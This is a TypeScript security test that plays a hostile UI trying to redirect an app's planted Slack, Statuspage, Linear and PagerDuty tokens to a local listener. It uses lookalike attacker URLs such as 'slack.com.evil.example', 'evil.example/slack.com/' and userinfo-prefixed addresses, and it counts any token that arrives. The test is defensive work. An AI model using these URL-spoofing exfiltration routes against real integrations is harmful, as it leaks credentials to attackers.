/**
 * A hostile UI tries to send the vendor tokens to a host it chose: through `settings:update`
 * (every vendor API URL) and through `sources:test`'s own `apiUrl`. A listener counts the
 * requests that arrive carrying a token; every attempt must be refused and none may arrive.
 */
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { HostUnderTest } from './host-harness.js';

/** The tokens planted before the attempts. */
export const PLANTED = {
  slackToken: 'xoxb-planted-slack-0123456789',
  statuspageToken: 'planted-statuspage-0123456789',
  linearToken: 'lin_api_planted0123456789',
  pagerdutyToken: 'planted-pagerduty-0123456789',
} as const;

/** What the attempts showed. */
export interface ExfiltrationReport {
  attempts: number;
  refused: number;
  tokensArrived: number;
}

function listener(): Promise<{ server: Server; url: string; hits: () => number }> {
  let hits = 0;
  const server = createServer((req, res) => {
    const seen = JSON.stringify(req.headers) + (req.url ?? '');
    if (Object.values(PLANTED).some((t) => seen.includes(t))) hits += 1;
    req.resume();
    req.on('end', () =>
      res.writeHead(200, { 'Content-Type': 'application/json' }).end('{"ok":true}'),
    );
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const { port } = server.address() as AddressInfo;
      resolve({ server, url: `http://127.0.0.1:${port}`, hits: () => hits });
    }),
  );
}

/** Plants the tokens, then tries every route out; returns the tally. */
export async function tryExfiltration(host: HostUnderTest): Promise<ExfiltrationReport> {
  for (const [name, value] of Object.entries(PLANTED)) {
    const set = await host.invoke('settings:set-secret', { name, value });
    if (!set.ok) throw new Error(`could not plant ${name}: ${JSON.stringify(set)}`);
  }
  const trap = await listener();
  const targets = [
    trap.url,
    `${trap.url}/api/`,
    'http://slack.com/api/',
    'https://slack.com.evil.example/api/',
    'https://evil.example/slack.com/',
    'https://user:pass@slack.com/api/',
    'https://api.pagerduty.com.evil.example',
    'ftp://api.linear.app/graphql',
  ];
  const fields = ['slackApiUrl', 'statuspageApiUrl', 'linearApiUrl', 'pagerdutyApiUrl'];
  let attempts = 0;
  let refused = 0;
  for (const field of fields) {
    for (const url of targets) {
      attempts += 1;
      const result = await host.invoke('settings:update', { patch: { [field]: url } });
      if (!result.ok) {
        refused += 1;
        continue;
      }
      // Accepted: make every integration use it now (a leak then shows at the listener).
      for (const integration of ['slack', 'statuspage', 'linear']) {
        await host.invoke('integrations:test', { integration }).catch(() => undefined);
      }
    }
  }
  for (const url of [trap.url, 'https://evil.example']) {
    attempts += 1;
    const result = (await host.invoke('sources:test', {
      source: 'pagerduty',
      apiUrl: url,
    })) as { ok: boolean; value?: { ok: boolean; problem?: string } };
    if (result.ok && result.value?.problem === 'bad-url') refused += 1;
  }
  await new Promise((r) => setTimeout(r, 300));
  await new Promise<void>((r) => trap.server.close(() => r()));
  return { attempts, refused, tokensArrived: trap.hits() };
}
